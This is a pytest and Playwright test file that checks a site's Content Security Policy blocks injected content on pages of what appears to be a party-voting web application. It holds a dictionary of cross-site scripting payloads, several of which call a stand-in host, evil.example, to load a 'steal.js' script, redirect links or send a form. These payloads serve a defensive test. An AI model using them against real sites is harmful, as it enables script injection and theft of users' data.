"""A script that got into a page does not run: asked of a real browser, with the headers that it really gets."""

import pytest
from browsing import Visits
from playwright.sync_api import Page, Route

PAGES = ("/", "/sign-in", "/procedures/partijraad-2026", "/procedures/partijraad-2026/result")
INJECTED = {
    "a script in the page": "<script>window.stolen = true</script>",
    "a handler of an event": "<img src='data:,' onerror='window.stolen = true'>",
    "a script of another site": "<script src='https://evil.example/steal.js'></script>",
    "a script in an address": "<script src='data:text/javascript,window.stolen=true'></script>",
    "a frame": "<iframe srcdoc='<script>parent.stolen = true</script>'></iframe>",
    "an object": "<object data='data:text/html,<script>parent.stolen=true</script>'></object>",
    "another base for every link": "<base href='https://evil.example/'>",
    "style that reads what is typed": "<style>body { background: url('https://evil.example/read') }</style>",
    "a form that sends elsewhere": "<form action='https://evil.example/'><button id='go'>x</button></form>",
}
WATCHED = """
document.addEventListener('securitypolicyviolation', event => {
    window.violations = [...(window.violations || []), event.effectiveDirective];
}, true);
"""


def injected(page: Page, address: str, fragment: str) -> list[str]:
    """Open a page of ours with a fragment put into it on the way; return what the other site was asked for."""
    asked: list[str] = []

    def answer(route: Route) -> None:
        got = route.fetch()
        route.fulfill(response=got, body=got.text().replace("<main", f"{fragment}<main", 1))

    def reached(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body="window.stolen = true", content_type="text/javascript")

    page.add_init_script(WATCHED)
    page.route("https://evil.example/**", reached)
    page.route(lambda url: url.rstrip("/") == address.rstrip("/"), answer)
    page.goto(address)
    page.wait_for_timeout(100)
    return asked


@pytest.mark.parametrize("what", INJECTED)
def test_w4_what_is_put_into_a_page_does_not_run_and_reaches_nobody(visit: Visits, what: str) -> None:
    visitor = visit()
    asked = injected(visitor.page, f"{visitor.site.address}/sign-in", INJECTED[what])
    visitor.page.evaluate("document.getElementById('go')?.click()")
    visitor.page.wait_for_timeout(100)
    assert visitor.page.evaluate("window.stolen") is None
    assert [frame for frame in visitor.page.frames if frame.evaluate("window.violations")]
    assert asked == []
    assert visitor.page.evaluate("document.baseURI").startswith(visitor.site.address)
    visitor.faults.clear()  # they are what was attacked with


def test_w4_the_same_fragments_do_run_without_the_policy(visit: Visits) -> None:
    """Else the tests above would prove nothing."""
    visitor = visit()

    def bare(route: Route) -> None:
        route.fulfill(body=f"<main></main>{INJECTED['a script in the page']}", content_type="text/html")

    visitor.page.route("**/never-there", bare)
    visitor.page.goto(f"{visitor.site.address}/never-there")
    assert visitor.page.evaluate("window.stolen") is True


@pytest.mark.parametrize("path", PAGES)
def test_w4_the_pages_themselves_never_break_the_policy(visit: Visits, path: str) -> None:
    visitor = visit()
    visitor.page.add_init_script(WATCHED)
    visitor.go(path)
    assert visitor.page.evaluate("window.violations") is None
